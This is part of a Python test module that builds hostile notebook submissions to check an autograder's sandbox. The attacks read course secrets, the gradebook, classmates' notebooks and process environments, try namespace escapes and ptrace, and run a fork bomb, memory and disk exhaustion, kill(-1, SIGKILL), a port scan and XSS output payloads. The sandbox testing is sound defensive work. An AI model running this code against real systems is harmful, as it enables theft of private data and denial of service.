"""A hostile corpus: submissions that attack the grader, each trying one thing (issue 11).

Every attack is the instructor's correct solution plus one change, in the style of
submissions.py: either an added code cell (``cell``, placed right after the imports
cell, so it runs before every exercise and its damage, if any, reaches the rest of
the notebook) or an edited answer cell (``body``: the attack runs inside a graded
function, so it runs in the kernel *and* in the outside judge's sandboxed answer
process, which runs only an answer cell's definitions).

The attack code knows everything an attacker could learn or guess: the host paths of
the course, its secret, its gradebook, another student's notebook, the hidden checks'
source, the grader's home, the virtual environment, a TCP server of the test's, and the
canaries to look for (``Targets``, written into the code as a literal). It reports what it
got in lines printed to its cell's output, each ``ATTACK-REPORT <student> <STATUS> <what>``:

- ``GOT``: the attack reached what it was after (with what it read): a sandbox failure;
- ``BLOCKED``: it was refused;
- ``TRIED``: only the host can tell (a file created where the sandbox has a scratch of
  its own, a daemon started): the tests look on the host;
- ``INFO``: a fact seen inside (counts, listings), for the reader.

In a graded function body (``body``) a ``GOT`` raises, with the report, so a leak in the
judge's process would reach the feedback (and cost the exercise): the tests assert that
no canary is in any feedback and that the attacker keeps its points.

The tests never trust the report alone: they look at the host (files, processes, the TCP
server, the disk) and at every autograded notebook and feedback file.
"""

import dataclasses
from dataclasses import dataclass
from typing import Optional

from course import POINTS, fill_release, place_submission
from submissions import correct_answers

#: The student ids of the attacks are "attack-<name>"; the honest students are these two.
HONEST = ("honest-correct", "honest-mistake")
#: The first uid of the sandboxes' students (c.Sandbox.uid_base's default).
SANDBOX_UID_BASE = 1_950_000_000


@dataclass(frozen=True)
class Targets:
    """What the attacks aim at, on the host (built by the test, per course)."""
    token: str                 # this run's: in every name an attack creates and every marker
    course: str
    secret: str                # the course's .gc_grader_secret
    gradebook: str             # the course's gradebook.db
    other_notebooks: tuple     # another student's notebook: submitted and autograded
    hidden_files: tuple        # the hidden checks' source (the editable gc_grader)
    env_name: str              # an environment variable of the grading process (its value is the test's)
    grader_home: str
    home_target: str           # an existing file in the grader's home, to append to
    tmp_target: str            # an existing file in the host's /tmp, to append to
    venv_target: str           # an existing file of the venv's site-packages, to append to
    editable_target: str       # an existing file of the editable gc_grader, to append to
    site_packages: str
    python_lib: str            # the Python installation's standard library
    port: int                  # a TCP (and UDP) server of the test's, on every address
    host_ip: Optional[str]     # the host's address on its network (None: it has none)

    def marker(self, what):
        """A name that only this run's attack ``what`` uses."""
        return f"gc-attack-{self.token}-{what}"

    def literal(self):
        return repr(dataclasses.asdict(self))


#: Defined in every attack's code: its report, and the moves every attack makes.
PRELUDE = r'''
import ctypes, errno, glob, os, signal, socket, subprocess, sys, time
_T = {targets}
_NAME = {name!r}
_LINES = []

def _say(status, what, detail=""):
    _LINES.append(f"{{status}} {{what}}" + (f": {{detail}}" if detail else ""))

def _short(data, n=300):
    if isinstance(data, bytes):
        data = data.decode("utf-8", "replace")
    return str(data)[:n].replace("\n", "\\n")

def _why(error):
    return f"{{type(error).__name__}}: {{error}}"[:150]

def _read_all(what, paths, n=300):
    """Read each path; a GOT line for each one read, one BLOCKED line for the rest."""
    refused, got = {{}}, 0
    for path in paths:
        try:
            with open(path, "rb") as f:
                data = f.read(1 << 20)
        except Exception as error:
            refused[type(error).__name__] = refused.get(type(error).__name__, 0) + 1
            continue
        got += 1
        _say("GOT", what, f"{{path}}: {{_short(data, n)}}")
    if refused:
        _say("BLOCKED", what, f"{{sum(refused.values())}} of {{len(paths)}} paths refused {{refused}}")
    return got

def _append(what, path, text=None):
    """Append to an existing file (never create one: the sandbox may have its own scratch there)."""
    try:
        with open(path, "r+") as f:
            f.seek(0, 2)
            f.write(text or f"\n# {{_T['token']}} {{_NAME}} was here\n")
        _say("GOT", what, f"appended to {{path}}")
    except Exception as error:
        _say("BLOCKED", what, f"{{path}}: {{_why(error)}}")

def _create(what, path, status_if_made="GOT"):
    try:
        with open(path, "x") as f:
            f.write(f"{{_NAME}} was here\n")
        _say(status_if_made, what, f"created {{path}}")
    except Exception as error:
        _say("BLOCKED", what, f"{{path}}: {{_why(error)}}")

def _pids():
    return sorted(int(p) for p in os.listdir("/proc") if p.isdigit())

def _find(wanted, budget=5.0, skip=("/proc", "/sys", "/dev")):
    """Walk the whole file system for paths ``wanted(path)`` accepts, for ``budget`` seconds."""
    found, start = [], time.monotonic()
    for top, dirs, files in os.walk("/"):
        if time.monotonic() - start > budget:
            return found, False
        dirs[:] = [d for d in dirs if os.path.join(top, d) not in skip]
        found += [os.path.join(top, f) for f in files if wanted(os.path.join(top, f))]
    return found, True

def _report():
    for line in _LINES:
        print(f"ATTACK-REPORT {{_NAME}} {{line}}", flush=True)
    return _LINES
'''

#: The trigger of an added cell: the attack runs, its report is printed.
CELL_TRIGGER = "\n_attack()\n_report()\n"

#: A graded function body's attack: once per process, before the function's own work; a GOT raises.
BODY_TRIGGER = '''
_ATTACK_DONE = {}

def _attack_once():
    if not _ATTACK_DONE:
        _ATTACK_DONE["lines"] = (_attack(), _report())[1]
    got = [line for line in _ATTACK_DONE["lines"] if line.startswith("GOT")]
    if got:
        raise RuntimeError("ATTACK-REPORT " + _NAME + " " + " | ".join(got)[:3000])
'''


# ----------------------------------------------------------------------------- the attacks' code
# Each defines _attack(), which records its findings with _say; the prelude's _T holds the targets.

READ_OTHER_SUBMISSION = '''
def _attack():
    answer = b"def gradient_check_n("         # in every student's notebook
    _read_all("another student's notebook by its host path", list(_T["other_notebooks"]))
    for relative in ("..", "../..", "../../.."):
        try:
            _say("INFO", f"listing {relative}", str(sorted(os.listdir(relative))[:15]))
        except Exception as error:
            _say("BLOCKED", f"listing {relative}", _why(error))
    through_proc = [f"/proc/{pid}/{way}{path}" for pid in _pids() for way in ("root", "cwd")
                    for path in _T["other_notebooks"]]
    _read_all("another student's notebook through /proc/<pid>/root and cwd", through_proc)
    own = os.path.realpath("Gradient_Checking.ipynb")
    found, whole = _find(lambda p: p.endswith(".ipynb"), budget=6)
    others = [p for p in found if os.path.realpath(p) != own]
    _say("INFO", "notebooks on the file system", f"{len(found)} (search complete: {whole}); others: {others[:5]}")
    for path in others:
        try:
            with open(path, "rb") as f:
                data = f.read()
        except Exception:
            continue
        if answer in data:
            at = data.find(b"def forward_propagation(")
            _say("GOT", "another student's notebook found by searching", f"{path}: {_short(data[at:at + 1500], 1500)}")
            return
    _say("BLOCKED", "another student's notebook by searching", "none found")
'''

READ_GRADEBOOK = '''
def _attack():
    paths = [_T["gradebook"], "../gradebook.db", "../../gradebook.db", "/gradebook.db",
             *(f"/proc/{pid}/{way}{_T['gradebook']}" for pid in _pids() for way in ("root", "cwd"))]
    _read_all("the gradebook", paths, n=3000)
    try:
        import sqlite3
        rows = sqlite3.connect(f"file:{_T['gradebook']}?mode=ro", uri=True).execute(
            "select id, last_name from student").fetchall()
        _say("GOT", "the gradebook's students with sqlite3", str(rows)[:300])
    except Exception as error:
        _say("BLOCKED", "the gradebook with sqlite3", _why(error))
    found, whole = _find(lambda p: p.endswith((".db", ".sqlite")) and "/.ipython/" not in p, budget=6)
    table = "submitted" + "_notebook"      # a table of nbgrader's gradebook (not written here as one word)
    for path in found:
        try:
            with open(path, "rb") as f:
                data = f.read()
        except Exception:
            continue
        if table.encode() in data and b"gradient_checking" in data:     # a gradebook of this course
            _say("GOT", "a gradebook found by searching", f"{path}: {_short(data, 3000)}")
            return
    _say("BLOCKED", "a gradebook by searching", f"{len(found)} databases, none a gradebook (complete: {whole})")
'''

READ_SECRET = '''
def _attack():
    secret = _T["secret"]
    depth = "/".join([".."] * 12)
    paths = [secret, depth + secret, "../.gc_grader_secret", "../../.gc_grader_secret", "/.gc_grader_secret",
             *(f"/proc/{pid}/{way}{secret}" for pid in _pids() for way in ("root", "cwd")),
             *(f"/proc/{pid}/cwd/.gc_grader_secret" for pid in _pids())]
    _read_all("the course secret", paths)
    found, whole = _find(lambda p: os.path.basename(p) == ".gc_grader_secret", budget=6)
    _say("INFO", "secrets found by searching", f"{found[:5]} (complete: {whole})")
    _read_all("the course secret found by searching", found)
'''

READ_HIDDEN_TESTS = '''
def _attack():
    try:
        import inspect
        import gc_grader.checks.verdicts as verdicts
        _say("GOT", "import gc_grader.checks.verdicts", _short(inspect.getsource(verdicts), 1500))
    except Exception as error:
        _say("BLOCKED", "import gc_grader.checks.verdicts", _why(error))
    _read_all("the hidden checks by their host path", list(_T["hidden_files"]), n=1500)
    for finder in glob.glob(os.path.join(_T["site_packages"], "__editable__*finder.py")):
        _say("INFO", "the editable install's finder", finder)
    hidden = ("verdicts.py", "cases.py", "mistakes.py", "secret.py")
    found, whole = _find(lambda p: os.path.basename(p) in hidden, budget=8)
    ours = [p for p in found if "gc_grader" in p]
    _say("INFO", "files named like the hidden checks", f"{found[:8]} (complete: {whole})")
    if ours:
        _read_all("the hidden checks found by searching", ours, n=1500)
    else:
        _say("BLOCKED", "the hidden checks by searching", "no gc_grader file found")
'''

READ_GRADER_ENVIRON = '''
def _attack():
    name = _T["env_name"].encode()
    if _T["env_name"] in os.environ:
        _say("GOT", "the grader's variable in my own environment", os.environ[_T["env_name"]])
    seen, readable = [], 0
    for pid in _pids():
        try:
            with open(f"/proc/{pid}/environ", "rb") as f:
                data = f.read()
        except Exception as error:
            seen.append(f"{pid}: {type(error).__name__}")
            continue
        readable += 1
        seen.append(f"{pid}: {sorted(v.split(b'=')[0].decode() for v in data.split(bytes(1)) if v)[:12]}")
        if name in data:
            at = data.find(name)
            _say("GOT", f"the grader's variable in /proc/{pid}/environ", _short(data[at:at + 80]))
    _say("INFO", "processes visible and their environments", "; ".join(seen)[:600])
    if not any(line.startswith("GOT") for line in _LINES):
        _say("BLOCKED", "the grader's environment", f"{readable} environ files readable, none with {_T['env_name']}")
'''

WRITE_COURSE = '''
def _attack():
    course, mark = _T["course"], f"gc-attack-{_T['token']}-write-course"
    _create("a new file in the course root", os.path.join(course, mark))
    _create("a new file in the course's source", os.path.join(course, "source", "gradient_checking", mark))
    _create("a new file in another student's submission",
            os.path.join(os.path.dirname(_T["other_notebooks"][0]), mark))
    _create("a new file in my own autograded folder (host path)",
            os.path.join(course, "autograded", "attack-write-course", "gradient_checking", mark))
    _append("nbgrader_config.py", os.path.join(course, "nbgrader_config.py"))
    _append("another student's notebook", _T["other_notebooks"][0])
    _create("a new file in my working folder (the sandbox's own)", mark, status_if_made="TRIED")
'''

WRITE_HOME = '''
def _attack():
    home, mark = _T["grader_home"], f"gc-attack-{_T['token']}-write-home"
    _append("an existing file in the grader's home", _T["home_target"])
    _create("a new file in the grader's home", os.path.join(home, mark))
    try:
        os.makedirs(os.path.join(home, ".config", mark))
        _say("TRIED", "a folder in the grader's ~/.config", "made (the host tells where)")
    except Exception as error:
        _say("BLOCKED", "a folder in the grader's ~/.config", _why(error))
    _create("a new file in my $HOME (the sandbox's own)", os.path.join(os.path.expanduser("~"), mark),
            status_if_made="TRIED")
'''

WRITE_HOST_TMP = '''
def _attack():
    mark = f"gc-attack-{_T['token']}-write-tmp"
    _append("an existing file in the host's /tmp", _T["tmp_target"])
    for folder in ("/tmp", "/var/tmp", "/dev/shm"):
        _create(f"a new file in {folder}", os.path.join(folder, mark), status_if_made="TRIED")
'''

WRITE_VENV = '''
def _attack():
    mark = f"gc-attack-{_T['token']}-write-venv"
    _append("a file of the venv's site-packages", _T["venv_target"])
    _append("a file of the editable gc_grader", _T["editable_target"])
    _create("a new file in site-packages", os.path.join(_T["site_packages"], mark + ".txt"))
    _create("a new file in the Python installation", os.path.join(_T["python_lib"], mark + ".txt"))
    try:
        import numpy
        _append("numpy's __init__.py, wherever it is", numpy.__file__)
    except Exception as error:
        _say("BLOCKED", "numpy", _why(error))
'''

SYMLINK_SECRET = '''
def _attack():
    mark = f"gc-attack-{_T['token']}-symlink"
    links = {"secret": _T["secret"], "gradebook": _T["gradebook"], "course": _T["course"],
             "classmate": _T["other_notebooks"][0]}
    for what, target in links.items():
        for folder in (".", "/tmp"):
            link = os.path.join(folder, f"{mark}-{what}")
            try:
                os.symlink(target, link)
            except Exception as error:
                _say("BLOCKED", f"a link to the {what} in {folder}", _why(error))
                continue
            _say("TRIED", f"a link to the {what} in {folder}", f"{link} -> {target}")
            if what == "course":
                try:
                    _say("GOT", "listing the course through a link", str(os.listdir(link))[:300])
                except Exception as error:
                    _say("BLOCKED", "listing the course through a link", _why(error))
            else:
                _read_all(f"the {what} through a link", [link])
    try:
        os.link(_T["secret"], f"{mark}-hardlink")
        _say("GOT", "a hard link to the secret", "made")
    except Exception as error:
        _say("BLOCKED", "a hard link to the secret", _why(error))
'''

#: Links the test puts in the attacker's submitted folder before grading (name -> target key).
PLANTED_LINKS = {"notes.txt": "secret", "grades.db": "gradebook", "classmate.txt": "other_notebook",
                 "course": "course"}

PLANTED_SYMLINK = '''
def _attack():
    _say("INFO", "my working folder", str(sorted(os.listdir(".")))[:300])
    _read_all("files the submission linked to the secret, the gradebook, a classmate",
              ["notes.txt", "grades.db", "classmate.txt"])
    try:
        _say("GOT", "the course through a linked folder", str(os.listdir("course"))[:300])
    except Exception as error:
        _say("BLOCKED", "the course through a linked folder", _why(error))
'''

MEMORY_6GIB = '''
def _attack():
    chunks, touched = [], 0
    try:
        while touched < 6 << 30:
            chunk = bytearray(256 << 20)
            chunk[::4096] = b"\\1" * len(range(0, len(chunk), 4096))
            chunks.append(chunk)
            touched += len(chunk)
        _say("GOT", "6 GiB allocated and touched in the kernel", f"{touched} bytes")
    except MemoryError:
        _say("BLOCKED", "6 GiB in the kernel", f"MemoryError after {touched} bytes")
    finally:
        chunks.clear()
'''

#: Bytes each helper process of MEMORY_MANY_PROCESSES maps and touches; four of them hold 6.25 GiB.
CHILD_BYTES = 1600 << 20

MEMORY_MANY_PROCESSES = '''
def _attack():
    child = (
        "import mmap, sys\\n"
        "held, touched = [], 0\\n"
        "try:\\n"
        "    while touched < {child_bytes}:\\n"
        "        held.append(mmap.mmap(-1, 64 << 20, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | mmap.MAP_POPULATE))\\n"
        "        touched += 64 << 20\\n"
        "except (MemoryError, OSError):\\n"
        "    pass\\n"
        "print(touched, flush=True)\\n"
        "sys.stdin.read()\\n")
    helpers = []
    try:
        for _ in range(4):
            helpers.append(subprocess.Popen([sys.executable, "-c", child], stdin=subprocess.PIPE,
                                            stdout=subprocess.PIPE, text=True))
        held = [int(p.stdout.readline() or 0) for p in helpers]
    except Exception as error:
        held = []
        _say("BLOCKED", "four helper processes", _why(error))
    total = sum(held)
    _say("GOT" if total >= 6 << 30 else "BLOCKED", "6 GiB touched at once by four processes",
         f"{total} bytes held at once ({held})")
    for p in helpers:
        p.kill()
        p.wait()
'''.replace("{child_bytes}", str(CHILD_BYTES))

FORK_BOMB = '''
def _attack():
    children, failure = [], None
    for _ in range(1000):
        try:
            pid = os.fork()
        except OSError as error:
            failure = _why(error)
            break
        if pid == 0:
            time.sleep(3600)
            os._exit(0)
        children.append(pid)
    _say("GOT" if len(children) >= 1000 else "BLOCKED", "1000 processes",
         f"forked {len(children)}; then {failure}")
'''

#: Bytes FILL_DISK writes at most (enough to show a limit, little enough not to hurt a host without one).
FILL_CAP = 2 << 30

FILL_DISK = '''
def _attack():
    written, files, stops = 0, 0, []
    block = bytes(1 << 20)
    for folder in (".", "/tmp"):
        try:
            while written < {cap}:
                fd = os.open(os.path.join(folder, f"gc-attack-{_T['token']}-fill-disk-{files}"),
                             os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o644)
                files += 1
                try:
                    for _ in range(90):
                        written += os.write(fd, block)
                finally:
                    os.close(fd)
        except OSError as error:
            stops.append(f"{folder}: {_why(error)}")
    _say("GOT" if written >= {cap} else "BLOCKED", "filling the disk",
         f"wrote {written} bytes in {files} files before {stops}")
'''.replace("{cap}", str(FILL_CAP))

#: Bytes FLOOD_OUTPUT prints (in lines of a million characters).
FLOOD_BYTES = 200 * 10 ** 6

FLOOD_OUTPUT = '''
def _attack():
    _say("TRIED", "printing {flood} bytes", "in lines of 1e6 characters")
    _report()
    line = "x" * 10 ** 6
    for _ in range({flood} // 10 ** 6):
        sys.stdout.write(line)
    sys.stdout.flush()
    _LINES.clear()
'''.replace("{flood}", str(FLOOD_BYTES))

EXHAUST_FDS = '''
_HELD = []

def _attack():
    failure = None
    while len(_HELD) < 100_000:
        try:
            _HELD.append(os.open("/dev/null", os.O_RDONLY))
        except OSError as error:
            failure = _why(error)
            break
    _say("GOT" if len(_HELD) >= 100_000 else "BLOCKED", "file descriptors",
         f"held {len(_HELD)} more, then {failure}")
'''

IGNORE_SIGINT = '''
def _attack():
    mark = f"gc-attack-{_T['token']}-ignore-sigint"
    stubborn = ("import signal, time\\n"
                "for s in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP):\\n"
                "    signal.signal(s, signal.SIG_IGN)\\n"
                "time.sleep(3600)\\n")
    subprocess.Popen([sys.executable, "-c", stubborn, mark], start_new_session=True)
    _say("TRIED", "a child that ignores SIGINT, SIGTERM and SIGHUP, sleeping", mark)
    _say("TRIED", "the kernel itself ignores SIGINT and sleeps an hour")
    _report()
    _LINES.clear()
    signal.signal(signal.SIGINT, signal.SIG_IGN)
    time.sleep(3600)
'''

CONNECT_LOCALHOST = '''
def _attack():
    for host in ("127.0.0.1", "::1", "localhost"):
        try:
            socket.create_connection((host, _T["port"]), timeout=3).close()
            _say("GOT", f"a TCP connection to the test's server at {host}", str(_T["port"]))
        except Exception as error:
            _say("BLOCKED", f"TCP to {host}:{_T['port']}", _why(error))
    try:
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"gc-attack", ("127.0.0.1", _T["port"]))
        _say("TRIED", "a UDP datagram to 127.0.0.1", "sent (the server tells)")
    except Exception as error:
        _say("BLOCKED", "UDP to 127.0.0.1", _why(error))
    own = set()         # ports that processes of my own network namespace listen on (the kernel's)
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        try:
            with open(table) as f:
                rows = [line.split() for line in f.readlines()[1:]]
            own |= {int(row[1].rsplit(":", 1)[1], 16) for row in rows if row[3] == "0A"}
        except Exception:
            pass
    opened, start = [], time.monotonic()
    for port in range(1, 65536):
        if time.monotonic() - start > 8:
            break
        s = socket.socket()
        s.settimeout(0.05)
        try:
            s.connect(("127.0.0.1", port))
            if s.getsockname()[1] != port:     # not TCP's self-connection of an ephemeral port
                opened.append(port)
        except Exception:
            pass
        finally:
            s.close()
    foreign = [port for port in opened if port not in own]
    _say("INFO", "ports my own namespace listens on", str(sorted(own)))
    _say("GOT" if foreign else "BLOCKED", "a scan of 127.0.0.1 for ports not of my own namespace (the Dask "
         "scheduler listens there during grade-class)", f"open {foreign[:20]}, scanned up to {port}")
'''

CONNECT_OUTSIDE = '''
def _attack():
    targets = [("1.1.1.1", 53), ("8.8.8.8", 53), ("1.1.1.1", 443)]
    if _T["host_ip"]:
        targets.insert(0, (_T["host_ip"], _T["port"]))
    for host, port in targets:
        try:
            socket.create_connection((host, port), timeout=3).close()
            _say("GOT", f"a TCP connection to {host}:{port}")
        except Exception as error:
            _say("BLOCKED", f"TCP to {host}:{port}", _why(error))
    if _T["host_ip"]:
        try:
            socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"gc-attack", (_T["host_ip"], _T["port"]))
            _say("TRIED", "a UDP datagram to the host's address", "sent (the server tells)")
        except Exception as error:
            _say("BLOCKED", "UDP to the host's address", _why(error))
    try:
        _say("GOT", "DNS", str(socket.getaddrinfo("example.com", 80)[:1]))
    except Exception as error:
        _say("BLOCKED", "DNS", _why(error))
'''

DAEMON = '''
def _daemon(mark):
    """Double fork and setsid: a process that outlives its parent, ignores the usual signals, sleeps."""
    sleeper = ("import signal, time\\n"
               "for s in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP):\\n"
               "    signal.signal(s, signal.SIG_IGN)\\n"
               "time.sleep(3600)\\n")
    pid = os.fork()
    if pid == 0:
        try:
            os.setsid()
            if os.fork() == 0:
                os.execv(sys.executable, [sys.executable, "-c", sleeper, mark])
        finally:
            os._exit(0)
    os.waitpid(pid, 0)

def _attack():
    mark = f"gc-attack-{_T['token']}-daemon"
    _daemon(mark)
    time.sleep(0.5)
    alive = []
    for p in _pids():
        try:
            with open(f"/proc/{p}/cmdline", "rb") as f:
                if mark.encode() in f.read():
                    alive.append(p)
        except OSError:
            pass
    _say("TRIED", "a daemon (double fork, setsid, ignoring SIGINT/TERM/HUP)", f"{mark}, pids {alive}")
'''

NESTED_USERNS = '''
def _attack():
    secret, course = _T["secret"], _T["course"]
    tries = {
        "unshare -Ur cat <secret>": ["unshare", "-Ur", "cat", secret],
        "unshare -Ur ls <course>": ["unshare", "-Ur", "ls", course],
        "unshare -Urm: bind / and list the course": [
            "unshare", "-Urm", "sh", "-c", f"mkdir -p /tmp/r && mount --rbind / /tmp/r && ls /tmp/r{course}"],
        "unshare -Urm: mount a fresh proc and read pid 1's environ": [
            "unshare", "-Urmpf", "--mount-proc", "sh", "-c", "cat /proc/1/environ; ls /proc"],
        "nsenter into pid 1's namespaces": ["nsenter", "-t", "1", "-a", "cat", secret],
    }
    for what, argv in tries.items():
        try:
            done = subprocess.run(argv, capture_output=True, timeout=10)
        except Exception as error:
            _say("BLOCKED", what, _why(error))
            continue
        reached = done.returncode == 0 and ("cat" in argv or "ls" in what or "list" in what)
        status = "GOT" if reached and "environ" not in what else ("INFO" if done.returncode == 0 else "BLOCKED")
        if "environ" in what and _T["env_name"].encode() in done.stdout:
            status = "GOT"
        _say(status, what, f"exit {done.returncode}: {_short(done.stdout, 200)} {_short(done.stderr, 200)}")
    # The same by hand: unshare(CLONE_NEWUSER | CLONE_NEWNS) in a child, then reach for the host.
    read, write = os.pipe()
    pid = os.fork()
    if pid == 0:
        os.close(read)
        lines = []
        libc = ctypes.CDLL(None, use_errno=True)
        if libc.unshare(0x10000000 | 0x00020000) != 0:
            lines.append(f"BLOCKED unshare(CLONE_NEWUSER|CLONE_NEWNS): errno {errno.errorcode.get(ctypes.get_errno())}")
        else:
            lines.append("INFO unshare(CLONE_NEWUSER|CLONE_NEWNS): allowed")
            for what, path in (("the secret", secret), ("pid 1's environ", "/proc/1/environ"),
                               ("the host's root through pid 1", f"/proc/1/root{secret}")):
                try:
                    with open(path, "rb") as f:
                        data = f.read(300)
                    ok = what != "pid 1's environ" or _T["env_name"].encode() in data
                    lines.append(f"{'GOT' if ok else 'INFO'} {what} after unshare: {_short(data, 200)}")
                except Exception as error:
                    lines.append(f"BLOCKED {what} after unshare: {_why(error)}")
            ok = libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0
            lines.append(f"INFO mount tmpfs after unshare: {'allowed (in its own namespace)' if ok else 'refused'}")
        os.write(write, "\\n".join(lines).encode())
        os._exit(0)
    os.close(write)
    with os.fdopen(read, "rb") as f:
        for line in f.read().decode().splitlines():
            status, _, rest = line.partition(" ")
            _say(status, rest)
    os.waitpid(pid, 0)
'''

PTRACE = '''
def _attack():
    libc = ctypes.CDLL(None, use_errno=True)
    libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
    me, mine = os.getpid(), os.getuid()
    for pid in _pids():
        if pid == me:
            continue
        try:
            owner = os.stat(f"/proc/{pid}").st_uid
        except OSError:
            continue
        if libc.ptrace(16, pid, None, None) == 0:          # PTRACE_ATTACH
            os.waitpid(pid, 0)
            libc.ptrace(17, pid, None, None)               # PTRACE_DETACH
            _say("GOT" if owner != mine or pid == 1 else "INFO", f"ptrace attach to pid {pid} (uid {owner})", "attached")
        else:
            _say("BLOCKED", f"ptrace attach to pid {pid} (uid {owner})", errno.errorcode.get(ctypes.get_errno(), "?"))
    for what, path in (("pid 1's environ", "/proc/1/environ"), ("pid 1's memory", "/proc/1/mem")):
        try:
            with open(path, "rb") as f:
                data = f.read(200)
            _say("GOT", what, _short(data))
        except Exception as error:
            _say("BLOCKED", what, _why(error))
    try:
        _say("GOT", "pid 1's root", str(os.listdir("/proc/1/root"))[:200])
    except Exception as error:
        _say("BLOCKED", "pid 1's root", _why(error))
'''

HTML_JS_OUTPUT = '''
def _attack():
    from IPython.display import HTML, Javascript, Markdown, display
    tag = "gcAttack" + _T["token"]
    display(HTML(f"<b>{tag}-html</b><script>window.{tag}=1;fetch('/api/contents/{tag}-xss',{{method:'PUT'}})</script>"
                 f"<img src=x onerror=\\"window.{tag}=2\\"><a href=\\"javascript:window.{tag}=3\\">click</a>"
                 f"<iframe srcdoc=\\"<script>window.{tag}=4</script>\\"></iframe>"))
    display(Javascript(f"window.{tag}=5"))
    display(Markdown(f"[md](javascript:window.{tag}=6) <img src=x onerror=\\"window.{tag}=7\\">"))
    _say("TRIED", "HTML, JavaScript and Markdown outputs with script", tag)
'''

SVG_SCRIPT_OUTPUT = '''
def _attack():
    from IPython.display import SVG, display
    tag = "gcAttack" + _T["token"]
    svg = (f'<svg xmlns="http://www.w3.org/2000/svg" width="20" height="20" onload="window.{tag}=8">'
           f'<script>window.{tag}=9</script><circle cx="10" cy="10" r="5"/></svg>')
    display(SVG(data=svg))
    display({"image/svg+xml": svg.replace("=9", "=10"), "text/plain": "a circle"}, raw=True)
    _say("TRIED", "SVG outputs with script", tag)
'''

KILL_EVERYONE = '''
def _attack():
    _say("TRIED", "kill(-1, SIGKILL) and SIGKILL to every pid visible, from a child", "the kernel dies too")
    _report()
    _LINES.clear()
    time.sleep(0.5)
    pid = os.fork()
    if pid == 0:
        for target in _pids():
            try:
                os.kill(target, signal.SIGKILL)
            except OSError:
                pass
        try:
            os.kill(-1, signal.SIGKILL)
        finally:
            os._exit(0)
    os.waitpid(pid, 0)
'''

# --- attacks from a graded function's body: they run in the judge's answer process too.

JUDGE_READS = '''
def _attack():
    _read_all("the course secret", [_T["secret"]])
    _read_all("the gradebook", [_T["gradebook"]])
    _read_all("the hidden checks", list(_T["hidden_files"]), n=1500)
    _read_all("another student's notebook", list(_T["other_notebooks"]))
    try:
        import gc_grader.checks.verdicts
        _say("GOT", "import gc_grader.checks.verdicts", gc_grader.checks.verdicts.__file__)
    except Exception as error:
        _say("BLOCKED", "import gc_grader", _why(error))
    for pid in _pids():
        try:
            with open(f"/proc/{pid}/environ", "rb") as f:
                data = f.read()
        except Exception:
            continue
        if _T["env_name"].encode() in data:
            _say("GOT", f"the grader's variable in /proc/{pid}/environ", _short(data[data.find(_T['env_name'].encode()):], 80))
    _say("INFO", "running in", f"{os.getcwd()} {sorted(os.listdir('.'))[:10]}, pid {os.getpid()}, uid {os.getuid()}")
'''

JUDGE_WRITES = '''
def _attack():
    mark = f"gc-attack-{_T['token']}-judge-writes"
    _create("a new file in the course root", os.path.join(_T["course"], mark))
    _append("an existing file in the grader's home", _T["home_target"])
    _create("a new file in the grader's home", os.path.join(_T["grader_home"], mark))
    _append("an existing file in the host's /tmp", _T["tmp_target"])
    _create("a new file in /tmp", os.path.join("/tmp", mark), status_if_made="TRIED")
    _append("a file of the venv's site-packages", _T["venv_target"])
    _append("a file of the editable gc_grader", _T["editable_target"])
    _create("a new file in site-packages", os.path.join(_T["site_packages"], mark + ".txt"))
'''

JUDGE_CONNECT = '''
def _attack():
    for host in ("127.0.0.1", _T["host_ip"]):
        if host:
            try:
                socket.create_connection((host, _T["port"]), timeout=3).close()
                _say("GOT", f"a TCP connection to {host}:{_T['port']}")
            except Exception as error:
                _say("BLOCKED", f"TCP to {host}:{_T['port']}", _why(error))
'''

JUDGE_DAEMON = DAEMON.replace("}-daemon\"", "}-judge-daemon\"")


@dataclass(frozen=True)
class Attack:
    name: str                   # the student is "attack-<name>"
    tries: str                  # what it tries, in a sentence
    code: str                   # defines _attack()
    where: str = "cell"         # "cell": an added cell after the imports; or the exercise whose body runs it
    lost: tuple = ()            # exercises it is expected to lose
    planted_links: bool = False  # the test puts PLANTED_LINKS in its submitted folder
    ends_with: Optional[str] = None  # the error its own cell must end with (its report is then lost)
    why_lost: str = ""          # why it loses what it loses

    @property
    def student(self):
        return f"attack-{self.name}"

    def source(self, targets):
        prelude = PRELUDE.format(targets=targets.literal(), name=self.student)
        return prelude + self.code

    def notebook(self, targets):
        answers = correct_answers()
        if self.where == "cell":
            nb = fill_release(answers)
            from nbformat.v4 import new_code_cell
            cell = new_code_cell(self.source(targets) + CELL_TRIGGER)
            cell["id"] = f"attack-{self.name}"
            index = next(i for i, c in enumerate(nb.cells) if c.get("id") == "imports")
            nb.cells.insert(index + 1, cell)
            return nb
        exercise = self.where
        code = answers[exercise]
        head = code.index(":\n", code.index(f"def {exercise}(")) + 2     # the line after the signature
        body_start = code.index("\n", code.index('"""', code.index('"""', head) + 3)) + 1   # after the docstring
        answers[exercise] = (self.source(targets) + BODY_TRIGGER + "\n" + code[:body_start]
                             + "    _attack_once()\n" + code[body_start:])
        return fill_release(answers)

    def place(self, course_dir, targets):
        return place_submission(course_dir, self.student, self.notebook(targets))

    def expected_points(self):
        return {name: 0 if name in self.lost else points for name, points in POINTS.items()}


ATTACKS = [
    # Reading what grading keeps from students.
    Attack("read-other-submission", "read another student's notebook: by its host path, ../.., /proc/<pid>/root "
           "and cwd, and by searching the whole file system for *.ipynb", READ_OTHER_SUBMISSION),
    Attack("read-gradebook", "read the gradebook: by path, relative, through /proc, with sqlite3, and by "
           "searching for *.db", READ_GRADEBOOK),
    Attack("read-secret", "read the course secret .gc_grader_secret: by path, ../ chains, /proc/<pid>/root "
           "and cwd, and by searching", READ_SECRET),
    Attack("read-hidden-tests", "read the hidden checks' code: import gc_grader, their host paths, and a "
           "search for verdicts.py, cases.py, mistakes.py", READ_HIDDEN_TESTS),
    Attack("read-grader-environ", "read the grader's environment: its own, and /proc/<pid>/environ of every "
           "process it sees", READ_GRADER_ENVIRON),
    # Writing where grading lives.
    Attack("write-course", "write into the course: new files in its root, source and another student's "
